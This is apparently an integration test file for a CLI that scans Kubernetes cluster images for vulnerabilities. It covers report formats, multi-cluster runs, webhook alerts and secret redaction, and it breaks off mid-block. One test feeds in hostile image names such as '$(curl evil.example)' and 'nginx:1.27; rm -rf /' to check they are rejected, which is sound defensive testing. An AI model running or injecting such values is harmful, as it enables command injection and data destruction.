// `shipshape cluster`, against real control planes (test/support/kube.ts: etcd, kube-apiserver and
// the controller manager, one per describe) and the stand-in Trivy.

import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import * as assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { runCli } from '../support/cli.js';
import { deployment, digestOf, distinctImages, eventually, startKube, writeContexts, type Kube } from '../support/kube.js';
import { imageScans, isAlive, STAND_IN, standInLog } from '../support/trivy.js';
import { startWebhook, type WebhookReceiver } from '../support/webhook.js';

const execFileAsync = promisify(execFile);
const CLI = path.resolve(__dirname, '..', '..', 'dist', 'cli.js');

/** A kubeconfig of one context named `name` for this control plane. */
const contextOf = (kube: Kube, name: string) => writeContexts([{ name, server: kube.url, ca: kube.ca, token: kube.token }]);

describe('shipshape cluster', () => {
  let server: Kube;
  let dir: string;
  let kubeconfig: string;
  let expected: number;
  const saved = process.env['SHIPSHAPE_CACHE_DIR'];
  before(async () => {
    server = await startKube();
    await Promise.all(['shop', 'payments'].map((ns) => server.namespace(ns)));
    await server.apply(
      deployment('shop', 'api', 'registry.example/shop/api-debian:1.0', { replicas: 2 }) +
        deployment('shop', 'web', 'registry.example/shop/web-alpine:2.0') +
        deployment('shop', 'cart', 'registry.example/shop/cart-ubi:3.1') +
        deployment('payments', 'pay', 'registry.example/payments/pay-debian:1.1') +
        deployment('payments', 'ledger', 'registry.example/payments/ledger-alpine:4') +
        'apiVersion: v1\nkind: Pod\nmetadata: {name: toolbox, namespace: payments}\nspec: {containers: [{name: tools, image: "busybox:1.36"}]}\n',
    );
    await server.runPods('shop', { count: 4 });
    await server.runPods('payments', { count: 3 });
    kubeconfig = server.kubeconfig;
    expected = distinctImages(await server.pods()).size;
  });
  after(() => server?.stop());
  beforeEach(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'shipshape-cluster-'));
    process.env['SHIPSHAPE_CACHE_DIR'] = dir;
  });
  afterEach(() => {
    if (saved === undefined) delete process.env['SHIPSHAPE_CACHE_DIR'];
    else process.env['SHIPSHAPE_CACHE_DIR'] = saved;
    rmSync(dir, { recursive: true, force: true });
  });

  // --no-registry: the test images' registries (registry.example, docker.io) are not reachable from here; clusterStale.test.ts asks a real one.
  const cluster = (...args: string[]) =>
    runCli(['cluster', '--kubeconfig', kubeconfig, '--trivy', STAND_IN, '--no-registry', '--state', path.join(dir, 'state.json'), ...args]);

  test('JSON: images with digests, workloads and counts; findings with deadlines, worst first', async () => {
    const run = await cluster('--format', 'json');
    assert.equal(run.code, 0, run.stderr);
    const report = JSON.parse(run.stdout) as {
      images: { reference: string; digest?: string; workloads: unknown[]; vulnerabilities?: Record<string, number> }[];
      findings: { severity: string; deadline: string; breached: boolean; firstSeen: string }[];
    };
    assert.equal(report.images.length, expected);
    assert.ok(report.images.every((i) => i.workloads.length > 0 && i.vulnerabilities));
    assert.ok(report.findings.length > 0);
    const order = ['CRITICAL', 'HIGH', 'MEDIUM', 'LOW', 'UNKNOWN'];
    for (let i = 1; i < report.findings.length; i++) {
      const [a, b] = [report.findings[i - 1]!, report.findings[i]!];
      assert.ok(order.indexOf(a.severity) < order.indexOf(b.severity) || (a.severity === b.severity && a.deadline <= b.deadline));
    }
    assert.ok(report.findings.every((f) => !f.breached));
  });

  test('first-seen dates survive between runs; --fail-on-breach with --from-published exits 1', async () => {
    const first = JSON.parse((await cluster('--format', 'json')).stdout) as { findings: { firstSeen: string }[] };
    const second = JSON.parse((await cluster('--format', 'json')).stdout) as { findings: { firstSeen: string }[] };
    assert.deepEqual(
      second.findings.map((f) => f.firstSeen),
      first.findings.map((f) => f.firstSeen),
    );
    const breach = await cluster('--from-published', '--fail-on-breach', '--format', 'csv');
    assert.equal(breach.code, 1);
    assert.match(
      breach.stdout.split('\r\n')[0]!,
      /^image,digest,namespaces,workloads,vulnerability,severity,package,installed,fixed,first seen,deadline,breached,contexts$/,
    );
    assert.match(breach.stdout, /,true,shipshape\r\n/);
  });

  test('markdown, SARIF and table formats; --output writes the file', async () => {
    assert.match((await cluster('--format', 'markdown')).stdout, /^# Shipshape cluster report: shipshape\n/);
    const sarif = JSON.parse((await cluster('--format', 'sarif')).stdout) as { version: string; runs: { results: unknown[] }[] };
    assert.equal(sarif.version, '2.1.0');
    assert.ok(sarif.runs[0]!.results.length > 0);
    assert.match((await cluster()).stdout, /^Cluster shipshape \(https:\/\/127\.0\.0\.1:\d+\): \d+ pods, \d+ distinct images/);
  });

  test("the built CLI's SARIF names this build's version (the one in package.json)", async () => {
    const { version } = JSON.parse(readFileSync(path.resolve(__dirname, '..', '..', 'package.json'), 'utf8')) as { version: string };
    const { stdout } = await execFileAsync(
      process.execPath,
      [
        CLI,
        'cluster',
        '--kubeconfig',
        kubeconfig,
        '--trivy',
        STAND_IN,
        '--no-registry',
        '--state',
        path.join(dir, 'state.json'),
        '--format',
        'sarif',
      ],
      { env: process.env, maxBuffer: 64 * 1024 * 1024 },
    );
    const sarif = JSON.parse(stdout) as { runs: { tool: { driver: { name: string; version: string } } }[] };
    assert.deepEqual(sarif.runs[0]!.tool.driver, { ...sarif.runs[0]!.tool.driver, name: 'Shipshape', version });
    assert.notEqual(version, '0.0.0-dev');
  });

  test('SIGTERM (a CronJob deadline) stops the scans, writes the partial report, exits 2 and leaves no Trivy behind', async () => {
    // The built CLI in its own process: the test runner has SIGTERM handlers of its own.
    const log = standInLog({ TRIVY_STANDIN_DELAY_MS: '20000' });
    try {
      const child = spawn(
        process.execPath,
        [
          CLI,
          'cluster',
          '--kubeconfig',
          kubeconfig,
          '--trivy',
          STAND_IN,
          '--no-registry',
          '--state',
          path.join(dir, 'state.json'),
          '--format',
          'json',
          '--concurrency',
          '2',
        ],
        { env: process.env },
      );
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
      for (let i = 0; i < 300 && imageScans(log.invocations()).length < 2; i++) await new Promise((r) => setTimeout(r, 50));
      assert.equal(imageScans(log.invocations()).length, 2, 'two scans are running');
      child.kill('SIGTERM');
      assert.equal(await exited, 2, stderr);
      const report = JSON.parse(stdout) as { partial?: boolean; images: unknown[]; errors: { image?: string; message: string }[] };
      assert.equal(report.partial, true);
      assert.equal(report.images.length, expected, 'the listed images are all in the report');
      assert.ok(
        report.errors.some((e) => /^Cancelled: this report is partial; \d+ images were not scanned/.test(e.message)),
        JSON.stringify(report.errors),
      );
      assert.match(stderr, /this report is partial/);
      await new Promise((r) => setTimeout(r, 300));
      assert.deepEqual(
        imageScans(log.invocations())
          .filter((i) => isAlive(i.pid))
          .map((i) => i.pid),
        [],
      );
    } finally {
      log.restore();
    }
  });

  test('--db-repository and --trivy-cache-dir reach each Trivy run (an air-gapped mirror); a bad repository is refused', async () => {
    const cache = path.join(dir, 'trivy-cache');
    const log = standInLog();
    try {
      const run = await cluster('--namespace', 'shop', '--db-repository', 'mirror.internal:5000/trivy-db', '--trivy-cache-dir', cache);
      assert.equal(run.code, 0, run.stderr);
      const scans = imageScans(log.invocations());
      assert.ok(scans.length > 0);
      for (const { argv } of scans) {
        assert.equal(argv[argv.indexOf('--db-repository') + 1], 'mirror.internal:5000/trivy-db', argv.join(' '));
        assert.equal(argv[argv.indexOf('--cache-dir') + 1], cache, argv.join(' '));
      }
    } finally {
      log.restore();
    }
    const bad = await cluster('--db-repository', 'not a repository');
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /--db-repository expects an OCI repository/);
  });

  test('an image past its end of life is in the report; --disable eol-image leaves it out', async () => {
    await server.namespace('legacy');
    await server.createPods([{ namespace: 'legacy', name: 'old', containers: [{ name: 'app', image: 'node:16-alpine' }] }], {
      running: true,
    });
    try {
      const eolOf = async (...extra: string[]) => {
        const run = await cluster('--namespace', 'legacy', '--format', 'json', ...extra);
        assert.equal(run.code, 0, run.stderr);
        return ((JSON.parse(run.stdout) as { eol?: { image: string; message: string }[] }).eol ?? []).map((e) => e.message);
      };
      const told = await eolOf();
      assert.equal(told.length, 1, told.join('\n'));
      assert.match(told[0]!, /node:16-alpine.*reached its end of life/);
      assert.deepEqual(await eolOf('--disable', 'eol-image'), []);
      assert.equal((await cluster('--disable', 'no-such-rule')).code, 2);
    } finally {
      await server.kubectl(['delete', 'namespace', 'legacy', '--wait=false']);
    }
  });

  test('hostile image names from the cluster are never passed to Trivy; each is an error, the rest is scanned', async () => {
    const hostile = [
      '--output=/tmp/owned',
      'nginx:1.27; rm -rf /',
      '$(curl evil.example)',
      'nginx\n:1',
      'registry.example/app with space:1',
    ];
    // The API server takes them: a pod's image is any string without surrounding blanks.
    await server.namespace('hostile');
    // Only the fine one runs (no kubelet could pull the others: they stay Pending, without a status).
    await server.createPods(
      [{ namespace: 'hostile', name: 'fine', containers: [{ name: 'app', image: 'registry.example/shop/fine-debian:1' }] }],
      {
        running: true,
      },
    );
    await server.createPods(
      hostile.map((image, i) => ({ namespace: 'hostile', name: `evil-${i}`, containers: [{ name: 'app', image }] })),
      { concurrency: 1 },
    );
    const log = standInLog();
    try {
      const run = await runCli([
        'cluster',
        '--kubeconfig',
        kubeconfig,
        '--namespace',
        'hostile',
        '--trivy',
        STAND_IN,
        '--no-registry',
        '--state',
        path.join(dir, 'state.json'),
        '--format',
        'json',
      ]);
      assert.equal(run.code, 0, run.stderr);
      const report = JSON.parse(run.stdout) as {
        images: { reference: string; vulnerabilities?: object }[];
        errors: { image?: string; message: string }[];
      };
      for (const image of hostile) {
        const error = report.errors.find((e) => e.image === image);
        assert.ok(error, `an error for ${JSON.stringify(image)}`);
        assert.match(error.message, /is not a valid image reference: not scanned/);
      }
      assert.ok(
        report.images.some((i) => i.vulnerabilities),
        'the others are scanned',
      );
      const argv = imageScans(log.invocations()).flatMap((i) => i.argv);
      assert.ok(argv.length > 0);
      for (const image of hostile) assert.ok(!argv.includes(image), `${JSON.stringify(image)} never reached a process`);
    } finally {
      log.restore();
      await server.kubectl(['delete', 'namespace', 'hostile', '--wait=false']);
    }
  });

  test('no cluster, bad arguments: exit 2 with the reason', async () => {
    const gone = await runCli(['cluster', '--kubeconfig', path.join(dir, 'missing.yaml')]);
    assert.equal(gone.code, 2);
    assert.match(gone.stderr, /Could not read the kubeconfig/);
    assert.equal((await cluster('--format', 'xml')).code, 2);
    assert.equal((await cluster('--sla', 'CRITICAL=soon')).code, 2);
    assert.match((await cluster('--request-timeout', '0')).stderr, /--request-timeout expects a whole number from 1 to 3600/);
  });
});

interface JsonReport {
  context?: string;
  server?: string;
  pods: number;
  clusters: { context: string; server: string; pods: number; partial?: boolean; error?: string }[];
  images: {
    reference: string;
    digest?: string;
    contexts: string[];
    workloads: { context: string; namespace: string; kind: string; name: string }[];
    workspace?: { file: string; line: number }[];
  }[];
  findings: { id: string; severity: string; image: string; contexts: string[]; workloads: string[]; breached: boolean }[];
  drift?: {
    file: string;
    line: number;
    reference: string;
    running: { context: string; namespace: string; workload: string; digest: string }[];
  }[];
  errors: { context?: string; namespace?: string; image?: string; notify?: string; message: string }[];
}

interface AlertBody {
  text: string;
  new: Record<string, unknown>[];
  breached: Record<string, unknown>[];
}

/** A temporary cache folder for each test (scan cache, state), removed after it. */
function cacheFolder(): { dir: () => string } {
  let dir = '';
  const saved = process.env['SHIPSHAPE_CACHE_DIR'];
  beforeEach(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'shipshape-clusters-'));
    process.env['SHIPSHAPE_CACHE_DIR'] = dir;
  });
  afterEach(() => {
    if (saved === undefined) delete process.env['SHIPSHAPE_CACHE_DIR'];
    else process.env['SHIPSHAPE_CACHE_DIR'] = saved;
    rmSync(dir, { recursive: true, force: true });
  });
  return { dir: () => dir };
}

describe('shipshape cluster over several contexts', () => {
  // The same Deployment image runs in east and west (one digest); each also runs its own.
  const shared = 'registry.example/shop/web-debian:1.0';
  let east: Kube;
  let west: Kube;
  let kubeconfig: string;
  let eastImages: Set<string>;
  let westImages: Set<string>;
  const cache = cacheFolder();
  before(async () => {
    [east, west] = await Promise.all([startKube(), startKube()]);
    const seed = async (kube: Kube, other: string) => {
      await Promise.all(['shop', other].map((ns) => kube.namespace(ns)));
      await kube.apply(
        deployment('shop', 'web', shared) +
          deployment('shop', 'api', `registry.example/shop/api-${other}-debian:1.0`, { replicas: 2 }) +
          deployment(other, 'worker', `registry.example/${other}/worker-alpine:2`) +
          deployment(other, 'report', `registry.example/${other}/report-ubi:8`),
      );
      await kube.runPods('shop', { count: 3 });
      await kube.runPods(other, { count: 2 });
      return distinctImages(await kube.pods());
    };
    [eastImages, westImages] = await Promise.all([seed(east, 'batch'), seed(west, 'data')]);
    kubeconfig = writeContexts([
      { name: 'east', server: east.url, ca: east.ca, token: east.token },
      { name: 'west', server: west.url, ca: west.ca, token: west.token },
    ]);
  });
  after(() => Promise.all([east?.stop(), west?.stop()]));

  const run = (config: string, ...args: string[]) =>
    runCli([
      'cluster',
      '--kubeconfig',
      config,
      '--trivy',
      STAND_IN,
      '--no-registry',
      '--state',
      path.join(cache.dir(), 'state.json'),
      ...args,
    ]);

  test('each distinct digest is scanned once across the clusters; JSON says where each image and workload runs', async () => {
    const log = standInLog();
    try {
      const result = await run(kubeconfig, '--context', 'east', '--context', 'west', '--format', 'json');
      assert.equal(result.code, 0, result.stderr);
      const report = JSON.parse(result.stdout) as JsonReport;
      const distinct = new Set([...eastImages, ...westImages]);
      assert.ok(distinct.size < eastImages.size + westImages.size, 'the clusters share images');
      assert.equal(report.images.length, distinct.size);
      assert.equal(imageScans(log.invocations()).length, distinct.size, 'one Trivy scan per distinct digest');
      assert.equal(report.context, undefined, 'no single context at the top');
      const [eastPods, westPods] = [(await east.pods()).length, (await west.pods()).length];
      assert.deepEqual(
        report.clusters.map((c) => [c.context, c.server, c.pods]),
        [
          ['east', east.url, eastPods],
          ['west', west.url, westPods],
        ],
      );
      assert.equal(report.pods, eastPods + westPods);
      const web = report.images.find((i) => i.digest === digestOf(shared));
      assert.ok(web);
      assert.deepEqual(web.contexts, ['east', 'west']);
      assert.deepEqual(
        web.workloads.map((w) => `${w.context}/${w.namespace}/${w.kind}/${w.name}`),
        ['east/shop/Deployment/web', 'west/shop/Deployment/web'],
      );
      assert.ok(report.images.every((i) => i.workloads.every((w) => i.contexts.includes(w.context))));
      const webFindings = report.findings.filter((f) => f.image === web.reference);
      assert.ok(webFindings.some((f) => f.severity === 'CRITICAL'));
      for (const f of webFindings) {
        assert.deepEqual(f.contexts, ['east', 'west']);
        assert.deepEqual(f.workloads, ['east/shop/Deployment/web', 'west/shop/Deployment/web']);
      }
    } finally {
      log.restore();
    }
  });

  test('the table, CSV, SARIF and Markdown say the context of each finding', async () => {
    const both = ['--context', 'east', '--context', 'west'];
    const table = (await run(kubeconfig, ...both)).stdout;
    assert.match(
      table,
      /^Clusters east, west: \d+ pods, \d+ distinct images, \d+ findings, \d+ past their deadline\.\n {2}east \(https:\/\/127\.0\.0\.1:\d+\): \d+ pods\n {2}west /,
    );
    assert.match(table, /CRITICAL .*web-debian@sha256:[0-9a-f]{64} {2}\(east\/shop\/Deployment\/web, west\/shop\/Deployment\/web\)/);
    const csv = (await run(kubeconfig, ...both, '--format', 'csv')).stdout.split('\r\n');
    assert.match(csv[0]!, /,breached,contexts$/);
    assert.ok(
      csv.some(
        (row) =>
          row.includes('web-debian') &&
          row.includes(',shop,east/shop/Deployment/web west/shop/Deployment/web,') &&
          row.endsWith(',east west'),
      ),
    );
    const sarif = JSON.parse((await run(kubeconfig, ...both, '--format', 'sarif')).stdout) as {
      runs: { results: { message: { text: string }; properties: { contexts: string[] } }[] }[];
    };
    const result = sarif.runs[0]!.results.find((r) => r.message.text.includes('web-debian'));
    assert.ok(result);
    assert.match(result.message.text, /Runs in east\/shop\/Deployment\/web, west\/shop\/Deployment\/web \(clusters east, west\)\.$/);
    assert.deepEqual(result.properties.contexts, ['east', 'west']);
    const markdown = (await run(kubeconfig, ...both, '--format', 'markdown')).stdout;
    assert.match(markdown, /^# Shipshape cluster report: east, west\n/);
    assert.match(markdown, /\| Cluster \| Server \| Pods \|\n\|---\|---\|---\|\n\| east \| https:\/\/127\.0\.0\.1:\d+ \| \d+ \|/);
    assert.match(markdown, /\| Workloads \| Clusters \|/);
    assert.match(markdown, /east\/shop\/Deployment\/web, west\/shop\/Deployment\/web \| east, west \|/);
  });

  test('one context: the report keeps its top-level context and server, and names the context everywhere', async () => {
    const report = JSON.parse((await run(kubeconfig, '--context', 'west', '--format', 'json')).stdout) as JsonReport;
    assert.equal(report.context, 'west');
    assert.equal(report.server, west.url);
    assert.deepEqual(report.clusters, [{ context: 'west', server: west.url, pods: (await west.pods()).length }]);
    assert.ok(report.images.every((i) => i.contexts.join() === 'west' && i.workloads.every((w) => w.context === 'west')));
    // Workloads are named as before (no context in front) when the run reads one cluster.
    assert.ok(report.findings.every((f) => f.contexts.join() === 'west' && f.workloads.every((w) => !w.startsWith('west/'))));
    assert.match((await run(kubeconfig, '--context', 'west')).stdout, /^Cluster west \(https:\/\/127\.0\.0\.1:\d+\): /);
  });
  test('each run is appended to the state; --history --format csv exports it without reading a cluster', async () => {
    const state = path.join(cache.dir(), 'state.json');
    const scan = () =>
      runCli([
        'cluster',
        '--kubeconfig',
        kubeconfig,
        '--all-contexts',
        '--trivy',
        STAND_IN,
        '--no-registry',
        '--state',
        state,
        '--format',
        'json',
      ]);
    assert.equal((await scan()).code, 0);
    assert.equal((await scan()).code, 0);
    const saved = JSON.parse(readFileSync(state, 'utf8')) as { format: number; history: { at: string; clusters: { context: string }[] }[] };
    assert.equal(saved.format, 1);
    assert.equal(saved.history.length, 2);
    const csv = await runCli([
      'cluster',
      '--history',
      '--format',
      'csv',
      '--state',
      state,
      '--kubeconfig',
      path.join(cache.dir(), 'none.yaml'),
    ]);
    assert.equal(csv.code, 0, csv.stderr);
    const rows = csv.stdout.split('\r\n').filter(Boolean);
    assert.equal(rows[0], 'time,context,pods,images,critical,high,medium,low,unknown,breached,partial');
    assert.equal(rows.length, 5, 'two runs of two clusters');
    const counts = (pods: number, images: number) => `${pods},${images}(,\\d+){5},0,false`;
    assert.match(rows[1]!, new RegExp(`^\\d{4}-\\d\\d-\\d\\dT[\\d:.]+Z,east,${counts((await east.pods()).length, eastImages.size)}$`));
    assert.match(rows[2]!, new RegExp(`^[^,]+,west,${counts((await west.pods()).length, westImages.size)}$`));
    const json = JSON.parse((await runCli(['cluster', '--history', '--format', 'json', '--state', state])).stdout) as {
      history: unknown[];
    };
    assert.equal(json.history.length, 2);
    assert.equal((await runCli(['cluster', '--history', '--state', state])).code, 2, 'the table is not a history format');
    assert.ok(existsSync(state));
  });
  describe('when a server has stopped, or the credentials may read nothing', () => {
    let withBroken: string;
    before(async () => {
      // north: east's API server, with the token of a ServiceAccount that no binding names.
      assert.equal((await east.kubectl(['-n', 'default', 'create', 'serviceaccount', 'nobody'])).code, 0);
      const nobody = await eventually('a token of nobody', async () => {
        const created = await east.kubectl(['-n', 'default', 'create', 'token', 'nobody']);
        return created.code === 0 ? created.stdout.trim() : undefined;
      });
      // gone: west's, stopped.
      const gone = { name: 'gone', server: west.url, ca: west.ca, token: west.token };
      await west.stop();
      withBroken = writeContexts([
        { name: 'east', server: east.url, ca: east.ca, token: east.token },
        gone,
        { name: 'north', server: east.url, ca: east.ca, token: nobody },
      ]);
    });

    test('--all-contexts: a cluster that is unreachable or forbidden is an error entry and the others are reported', async () => {
      const result = await run(withBroken, '--all-contexts', '--format', 'json');
      assert.equal(result.code, 0, result.stderr);
      const report = JSON.parse(result.stdout) as JsonReport;
      assert.deepEqual(
        report.clusters.map((c) => [c.context, c.error === undefined]),
        [
          ['east', true],
          ['gone', false],
          ['north', false],
        ],
      );
      assert.equal(report.images.length, eastImages.size);
      const gone = report.errors.find((e) => e.context === 'gone');
      assert.match(gone?.message ?? '', /Could not reach the cluster/);
      assert.deepEqual(Object.keys(gone!).sort(), ['context', 'message']);
      assert.match(report.errors.find((e) => e.context === 'north')?.message ?? '', /\(403\)/);
      assert.match(result.stderr, /^shipshape: cluster gone: Could not reach/m);
      assert.match(result.stderr, /^shipshape: cluster north: /m);
    });

    test('exit 2 only when no cluster could be read; an unknown context or --context with --all-contexts fails at once', async () => {
      const none = await run(withBroken, '--context', 'gone', '--context', 'north');
      assert.equal(none.code, 2);
      assert.match(none.stderr, /No cluster could be read:\n- gone: Could not reach[^\n]*\n- north: /);
      const unknown = await run(kubeconfig, '--context', 'east', '--context', 'nowhere');
      assert.equal(unknown.code, 2);
      assert.match(unknown.stderr, /The kubeconfig has no context "nowhere"; it has: east, west/);
      assert.equal((await run(kubeconfig, '--all-contexts', '--context', 'east')).code, 2);
    });
  });
});

describe('shipshape cluster --notify', () => {
  const SECRET = 's3cr3t-T0KEN';
  const HEADER_VALUE = 'Bearer hdr-Zq9-secret';
  let server: Kube;
  let hook: WebhookReceiver;
  let kubeconfig: string;
  const cache = cacheFolder();
  before(async () => {
    [server, hook] = await Promise.all([startKube(), startWebhook()]);
    await Promise.all(['shop', 'identity', 'web'].map((ns) => server.namespace(ns)));
    await server.apply(
      deployment('shop', 'api', 'registry.example/shop/api-debian:1.0') +
        deployment('identity', 'auth', 'registry.example/identity/auth-ubi:2.1') +
        deployment('web', 'docs', 'registry.example/web/docs:3'),
    );
    for (const ns of ['shop', 'identity', 'web']) await server.runPods(ns, { count: 1 });
    kubeconfig = contextOf(server, 'prod');
  });
  beforeEach(async () => {
    // Back to the three Deployments: what a test added goes, with its pods.
    await server.kubectl(['delete', 'deployment', '-A', '-l', 'extra=yes', '--cascade=foreground', '--wait']);
    await eventually('the added pods to go', async () => ((await server.pods()).length === 3 ? true : undefined));
    hook.clear();
    hook.failNext(0);
    hook.setDelay(0);
    hook.setRedirect(undefined);
  });
  after(() => Promise.all([server?.stop(), hook?.stop()]));

  /** Adds a Deployment (removed before the next test) and runs its pod. */
  const add = async (name: string, image: string) => {
    const count = (await server.pods()).filter((p) => p.metadata.namespace === 'shop').length + 1;
    await server.apply(deployment('shop', name, image, { extra: true }));
    await server.runPods('shop', { count });
  };

  const url = () => `${hook.url}/hook/${SECRET}?token=${SECRET}`;
  const run = (...args: string[]) =>
    runCli([
      'cluster',
      '--kubeconfig',
      kubeconfig,
      '--trivy',
      STAND_IN,
      '--no-registry',
      '--state',
      path.join(cache.dir(), 'state.json'),
      '--notify',
      url(),
      '--notify-header',
      `Authorization: ${HEADER_VALUE}`,
      '--format',
      'json',
      ...args,
    ]);
  const noSecrets = (...texts: string[]) => {
    for (const text of texts) {
      assert.ok(!text.includes(SECRET), 'the URL token is never shown');
      assert.ok(!text.includes('hdr-Zq9'), 'the header value is never shown');
    }
  };

  test('the first run announces what is at or above HIGH; a second sends nothing; a new CRITICAL is sent alone', async () => {
    const first = await run();
    assert.equal(first.code, 0, first.stderr);
    noSecrets(first.stdout, first.stderr);
    assert.equal(hook.deliveries().length, 1);
    const delivery = hook.deliveries()[0]!;
    assert.equal(delivery.method, 'POST');
    assert.equal(delivery.url, `/hook/${SECRET}?token=${SECRET}`);
    assert.equal(delivery.headers['authorization'], HEADER_VALUE);
    assert.match(String(delivery.headers['content-type']), /^application\/json/);
    const body = delivery.body as AlertBody;
    assert.match(body.text, /^Shipshape: 2 new vulnerabilities at HIGH or above \(1 CRITICAL, 1 HIGH\) in prod\.$/);
    assert.deepEqual(body.breached, []);
    assert.deepEqual(
      body.new.map((e) => [e['context'], e['namespace'], e['workload'], e['severity']]),
      [
        ['prod', 'shop', 'Deployment/api', 'CRITICAL'],
        ['prod', 'identity', 'Deployment/auth', 'HIGH'],
      ],
    );
    assert.deepEqual(Object.keys(body.new[0]!).sort(), [
      'context',
      'deadline',
      'digest',
      'fixedVersion',
      'image',
      'namespace',
      'severity',
      'vulnerability',
      'workload',
    ]);
    assert.equal(body.new[0]!['digest'], digestOf('registry.example/shop/api-debian:1.0'));

    const second = await run();
    assert.equal(second.code, 0, second.stderr);
    assert.equal(hook.deliveries().length, 1, 'nothing new: nothing sent');

    const added = 'registry.example/shop/cart-debian:5.0';
    await add('cart', added);
    const third = await run();
    assert.equal(third.code, 0, third.stderr);
    assert.equal(hook.deliveries().length, 2);
    const news = hook.deliveries()[1]!.body as AlertBody;
    assert.match(news.text, /^Shipshape: 1 new vulnerability at HIGH or above \(1 CRITICAL\) in prod\.$/);
    assert.deepEqual(
      news.new.map((e) => [e['workload'], e['severity'], e['digest']]),
      [['Deployment/cart', 'CRITICAL', digestOf(added)]],
    );
  });

  test('a deadline newly passed is announced once', async () => {
    // CRITICAL=0: due the moment it is first seen, and past it on the next run.
    const sla = ['--sla', 'CRITICAL=0', '--notify-severity', 'critical'];
    assert.equal((await run(...sla)).code, 0);
    assert.deepEqual(
      hook.deliveries().map((d) => [(d.body as AlertBody).new.length, (d.body as AlertBody).breached.length]),
      [[1, 0]],
    );
    await new Promise((r) => setTimeout(r, 5));
    const second = await run(...sla);
    assert.equal(second.code, 0, second.stderr);
    assert.equal(hook.deliveries().length, 2);
    const breach = hook.deliveries()[1]!.body as AlertBody;
    assert.match(breach.text, /^Shipshape: 1 remediation deadline passed \(1 CRITICAL\) in prod\.$/);
    assert.deepEqual(breach.new, []);
    assert.deepEqual(
      breach.breached.map((e) => [e['workload'], e['severity']]),
      [['Deployment/api', 'CRITICAL']],
    );
    await run(...sla);
    assert.equal(hook.deliveries().length, 2, 'announced once');
  });

  test('a failing receiver: tried three times, an error entry and a line, the report still written, and sent again by the next run', async () => {
    hook.failNext(3, 503);
    const output = path.join(cache.dir(), 'report.json');
    const failed = await run('--output', output);
    assert.equal(failed.code, 0, failed.stderr);
    noSecrets(failed.stdout, failed.stderr, readFileSync(output, 'utf8'));
    assert.deepEqual(
      hook.deliveries().map((d) => d.status),
      [503, 503, 503],
    );
    const report = JSON.parse(readFileSync(output, 'utf8')) as JsonReport;
    const error = report.errors.find((e) => e.notify !== undefined);
    assert.deepEqual(error, {
      notify: `${hook.url}/hook/…`,
      message: 'the alert was not delivered: the receiver answered 503 (3 attempts); the next run sends it again',
    });
    assert.match(
      failed.stderr,
      /^shipshape: alert to http:\/\/127\.0\.0\.1:\d+\/hook\/…: the alert was not delivered: the receiver answered 503/m,
    );
    assert.ok(report.findings.length > 0);

    const again = await run();
    assert.equal(again.code, 0, again.stderr);
    assert.equal(hook.accepted().length, 1);
    assert.deepEqual((hook.accepted()[0]!.body as AlertBody).new.length, 2, 'what was not delivered is sent again');
  });

  test('a 503 and then a 429 are tried again within the run', async () => {
    hook.failNext(1, 503);
    const result = await run();
    assert.equal(result.code, 0, result.stderr);
    assert.deepEqual(
      hook.deliveries().map((d) => d.status),
      [503, 200],
    );
    const report = JSON.parse(result.stdout) as JsonReport;
    assert.deepEqual(
      report.errors.filter((e) => e.notify),
      [],
    );
    await add('pay', 'registry.example/shop/pay-debian:1');
    hook.failNext(1, 429, '0');
    assert.equal((await run()).code, 0);
    assert.deepEqual(
      hook.deliveries().map((d) => d.status),
      [503, 200, 429, 200],
    );
  });

  test('a slow receiver is bounded by --notify-timeout, and is not tried again in that run', async () => {
    // The receiver holds its answer far longer than any run: the run ends while it still holds it.
    hook.setDelay(600_000);
    const slow = await run('--notify-timeout', '1');
    assert.equal(hook.pending(), 1, 'the run stopped waiting before the receiver answered');
    assert.equal(slow.code, 0, slow.stderr);
    assert.equal(hook.deliveries().length, 1);
    const report = JSON.parse(slow.stdout) as JsonReport;
    assert.match(report.errors.find((e) => e.notify)?.message ?? '', /the receiver did not answer within 1 s/);
    hook.setDelay(0);
    await run();
    assert.equal(hook.deliveries().length, 2, 'sent again by the next run');
  });

  test('a redirect is not followed', async () => {
    hook.setRedirect('http://127.0.0.1:9/elsewhere');
    const result = await run();
    assert.equal(hook.deliveries().length, 1);
    const report = JSON.parse(result.stdout) as JsonReport;
    assert.match(report.errors.find((e) => e.notify)?.message ?? '', /answered 307, a redirect \(not followed\)/);
  });

  test('refused URLs, headers and levels are usage errors that show no secret', async () => {
    const base = [
      'cluster',
      '--kubeconfig',
      kubeconfig,
      '--trivy',
      STAND_IN,
      '--no-registry',
      '--state',
      path.join(cache.dir(), 'state.json'),
    ];
    const plain = await runCli([...base, '--notify', `http://hooks.example.com/services/${SECRET}`]);
    assert.equal(plain.code, 2);
    assert.match(
      plain.stderr,
      /--notify expects an https URL \(plain http only to localhost or 127\.0\.0\.1\), not http:\/\/hooks\.example\.com\/services\/…/,
    );
    const ftp = await runCli([...base, '--notify', `ftp://user:${SECRET}@example.com/x`]);
    assert.equal(ftp.code, 2);
    const header = await runCli([...base, '--notify', url(), '--notify-header', `Authorization ${HEADER_VALUE}`]);
    assert.equal(header.code, 2);
    assert.match(header.stderr, /--notify-header expects "Name: value"/);
    const level = await runCli([...base, '--notify', url(), '--notify-severity', 'SEVERE']);
    assert.equal(level.code, 2);
    assert.match(level.stderr, /--notify-severity must be CRITICAL, HIGH, MEDIUM, LOW or UNKNOWN/);
    noSecrets(plain.stderr, ftp.stderr, header.stderr, level.stderr);
    assert.equal(hook.deliveries().length, 0);
  });
});

describe('shipshape cluster --workspace', () => {
  const repository = 'registry.example/shop/api';
  const runningDigest = digestOf(`${repository}:1.0`);
  const pinnedDigest = `sha256:${'a'.repeat(64)}`;
  let server: Kube;
  let kubeconfig: string;
  const cache = cacheFolder();
  before(async () => {
    server = await startKube();
    await server.namespace('shop');
    await server.apply(deployment('shop', 'api', `${repository}:1.0`) + deployment('shop', 'web', 'registry.example/shop/web:2.0'));
